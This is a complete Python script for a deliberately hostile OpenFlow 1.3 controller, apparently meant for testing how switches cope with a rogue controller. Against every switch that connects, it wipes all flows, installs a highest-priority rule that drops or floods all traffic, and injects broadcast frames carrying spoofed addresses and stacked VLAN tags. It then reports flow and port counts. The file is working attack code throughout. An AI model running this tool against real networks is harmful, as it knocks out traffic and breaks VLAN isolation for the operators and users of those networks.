"""A hostile OpenFlow 1.3 controller, in Python's standard library.

``python hostile.py PORT drop|flood``: deletes all flows of each switch that connects, adds one of
the highest priority that drops or floods all frames, sends its own frames out of all ports, with
foreign addresses and 802.1Q tags, and prints the numbers of the reported flows and ports.
"""

import socket
import struct
import sys
import threading

VERSION, ALL, ANY = 4, 0xFFFFFFFC, 0xFFFFFFFF
HELLO, ECHO, REPLY, FEATURES, PACKET_OUT, FLOW_MOD, ASK, ANSWER, BARRIER = 0, 2, 3, 5, 13, 14, 18, 19, 20
OUTPUT = struct.pack("!HHIH6x", 0, 16, ALL, 0xFFFF)


def message(kind, body=b"", number=7):
    return struct.pack("!BBHI", VERSION, kind, 8 + len(body), number) + body


def flow_mod(command, priority, instructions=b""):
    head = struct.pack(
        "!QQBBHHHIIIHxx", 0, 0, 0xFF if command == 3 else 0, command, 0, 0, priority, ANY, ANY, ANY, 0
    )
    return message(FLOW_MOD, head + struct.pack("!HH4x", 1, 4) + instructions)


def packet_out(frame):
    return message(PACKET_OUT, struct.pack("!IIH6x", ANY, 0xFFFFFFFD, len(OUTPUT)) + OUTPUT + frame)


def serve(switch, what):
    flood = struct.pack("!HH4x", 4, 8 + len(OUTPUT)) + OUTPUT
    broadcast = b"\xff" * 6 + b"\x02\x00\x00\x00\x00\x01"
    switch.sendall(message(HELLO) + message(FEATURES))
    switch.sendall(flow_mod(3, 0) + flow_mod(0, 65535, flood if what == "flood" else b""))
    for tag in (b"", b"\x81\x00\x00\x0a", b"\x81\x00\x00\x14\x81\x00\x00\x0a"):
        switch.sendall(packet_out(broadcast + tag + b"\x88\xb5" + b"hostile" * 8))
    switch.sendall(message(ASK, struct.pack("!HH4xB3xII4xQQHH4x", 1, 0, 0xFF, ANY, ANY, 0, 0, 1, 4)))
    switch.sendall(message(ASK, struct.pack("!HH4x", 13, 0)))
    octets = b""
    while piece := switch.recv(65536):
        octets += piece
        while len(octets) >= 8 and len(octets) >= (size := struct.unpack_from("!H", octets, 2)[0]):
            kind, body, octets = octets[1], octets[8:size], octets[size:]
            if kind == ECHO:
                switch.sendall(message(REPLY, body))
            elif kind == ANSWER and body[1] == 1:
                flows, at = 0, 8
                while at < len(body):
                    at, flows = at + struct.unpack_from("!H", body, at)[0], flows + 1
                print(f"flows {flows}\n", end="", flush=True)
            elif kind == ANSWER:
                numbers = [struct.unpack_from("!I", body, at)[0] for at in range(8, len(body), 64)]
                own = sorted(one for one in numbers if one < ALL - 10)
                print(f"ports {own}\n", end="", flush=True)


listener = socket.create_server(("", int(sys.argv[1])))
while True:
    connection, _ = listener.accept()
    threading.Thread(target=serve, args=(connection, sys.argv[2]), daemon=True).start()
